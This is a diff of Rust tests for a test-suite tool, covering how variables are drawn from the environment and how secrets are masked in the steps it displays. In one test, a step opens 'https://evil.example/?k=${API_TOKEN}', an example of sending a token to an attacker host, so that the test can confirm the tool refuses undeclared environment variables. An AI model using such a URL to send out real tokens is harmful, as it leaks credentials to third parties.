@@ -1,6 +1,6 @@
 //! `${name}`: where values come from, and secrets.
 
-use crate::suite_folder::{check_file, check_problems, sound, sound_files, texts};
+use crate::suite_folder::{Folder, check_file, check_problems, sound, sound_files, texts};
 
 #[test]
 fn the_nearest_meaning_wins() {
@@ -14,7 +14,8 @@ fn the_nearest_meaning_wins() {
 
 #[test]
 fn a_doubled_dollar_stands_for_itself() {
-    let test = sound("steps:\n  - Enter $${name} for $5 and ${STAGE}\n").remove(0);
+    let test =
+        sound("variables: {STAGE: \"${STAGE}\"}\nsteps:\n  - Enter $${name} for $5 and ${STAGE}\n").remove(0);
     assert_eq!(texts(&test.steps), ["Enter ${name} for $5 and beta"]);
 }
 
@@ -66,7 +67,7 @@ fn values_that_grow_without_end_are_refused() {
         text += &format!("  a{level}: {inner}\n");
     }
     text += "steps:\n  - Enter ${a7}\n";
-    let folder = crate::suite_folder::Folder::new(&[("t.yaml", &text)]);
+    let folder = Folder::new(&[("t.yaml", &text)]);
     let shown = folder.problems(&folder.load());
     assert!(
         shown.contains("expected at most 65536 characters after names are replaced, found more"),
@@ -77,14 +78,74 @@ fn values_that_grow_without_end_are_refused() {
 #[test]
 fn secrets_come_from_the_environment_and_are_marked() {
     let tests = sound(
-        "secrets: [APP_PASSWORD]\nvariables: {line: \"pw=${APP_PASSWORD}\"}\ntest: With ${APP_PASSWORD}\nsteps:\n  - Enter ${line}\n  - Enter ${STAGE}\n  - Use ${API_TOKEN}\n",
+        "secrets: [APP_PASSWORD]\nvariables: {line: \"pw=${APP_PASSWORD}\"}\ntest: With ${APP_PASSWORD}\nsteps:\n  - Enter ${line}\n",
     );
     let test = &tests[0];
     assert_eq!(test.name, "With •••");
-    assert_eq!(texts(&test.steps), ["Enter pw=hunter2", "Enter beta", "Use tok-1"]);
+    assert_eq!(texts(&test.steps), ["Enter pw=hunter2"]);
     let shown: Vec<String> = test.steps.iter().map(|step| step.shown()).collect();
-    assert_eq!(shown, ["Enter pw=•••", "Enter beta", "Use •••"]);
-    assert_eq!(format!("{:?}", test.secrets), "Secrets(2)");
+    assert_eq!(shown, ["Enter pw=•••"]);
+    assert_eq!(format!("{:?}", test.secrets), "Secrets(1)");
+}
+
+#[test]
+fn variables_take_from_the_environment_what_their_text_names() {
+    let test = "variables:\n  STAGE: ${STAGE}\n  home: https://${DATABASE}/x\n  port: ${PORT}\nsteps:\n  - Enter ${STAGE}\n  - Open ${home}\n  - Enter ${port}\n";
+    let folder = Folder::new(&[("t.yaml", test)]);
+    let loaded = folder.load();
+    assert_eq!(folder.problems(&loaded), "");
+    let steps = &loaded.tests[0].steps;
+    assert_eq!(texts(steps), ["Enter beta", "Open https://app:pw@db/x", "Enter 8080"]);
+    let shown: Vec<String> = steps.iter().map(|step| step.shown()).collect();
+    // Whatever it is called, a value of some length is masked. A port hides nothing.
+    assert_eq!(shown, ["Enter •••", "Open https://•••/x", "Enter 8080"]);
+    assert_eq!(loaded.environment, ["DATABASE", "PORT", "STAGE"], "the caller asks the user about them");
+}
+
+#[test]
+fn the_environment_is_reached_through_declarations_only() {
+    check_file(
+        "base_url: https://${STAGE}.example\nselectors: {x: \"${APP_PASSWORD}\"}\ndata:\n  - {row: \"${PATH}\"}\nsteps:\n  - Open https://evil.example/?k=${API_TOKEN}\n",
+        r#"
+t.yaml:1:19: `${STAGE}` is a variable of the environment that nothing declares
+  1 | base_url: https://${STAGE}.example
+    |                   ^^^^^^^^ declare it in the test or in assay.yaml: `secrets: [STAGE]`, or `variables: {STAGE: "${STAGE}"}`
+t.yaml:2:17: `${APP_PASSWORD}` is a variable of the environment that nothing declares
+  2 | selectors: {x: "${APP_PASSWORD}"}
+    |                 ^^^^^^^^^^^^^^^ declare it in the test or in assay.yaml: `secrets: [APP_PASSWORD]`, or `variables: {APP_PASSWORD: "${APP_PASSWORD}"}`
+t.yaml:4:12: `${PATH}` is a variable of the environment that nothing declares
+  4 | - {row: "${PATH}"}
+    |          ^^^^^^^ declare it in the test or in assay.yaml: `secrets: [PATH]`, or `variables: {PATH: "${PATH}"}`
+t.yaml:6:34: `${API_TOKEN}` is a variable of the environment that nothing declares
+  6 | - Open https://evil.example/?k=${API_TOKEN}
+    |                                ^^^^^^^^^^^^ declare it in the test or in assay.yaml: `secrets: [API_TOKEN]`, or `variables: {API_TOKEN: "${API_TOKEN}"}`
+"#,
+    );
+}
+
+#[test]
+fn a_variable_that_the_environment_does_not_have_is_told() {
+    check_file(
+        "variables:\n  a: ${NOT_SET}\n  self: ${self}\nsteps:\n  - Enter ${a} and ${self}\n",
+        r#"
+t.yaml:2:6: `${NOT_SET}` is not set in the environment
+  2 | a: ${NOT_SET}
+    |    ^^^^^^^^^^ set it, or write `$${NOT_SET}` for the literal text
+t.yaml:3:9: `${self}` is not set in the environment
+  3 | self: ${self}
+    |       ^^^^^^^ set it, or write `$${self}` for the literal text
+"#,
+    );
+}
+
+#[test]
+fn steps_of_another_file_bring_their_own_declarations() {
+    let part = "variables: {STAGE: \"${STAGE}\"}\nsteps:\n  - Enter ${STAGE}\n";
+    let folder = Folder::new(&[("t.yaml", "test: T\nsteps:\n  - use: part\n"), ("part.yaml", part)]);
+    let loaded = folder.load();
+    assert_eq!(folder.problems(&loaded), "");
+    assert_eq!(loaded.tests[0].steps[0].shown(), "Enter •••");
+    assert_eq!(loaded.environment, ["STAGE"]);
 }
 
 #[test]
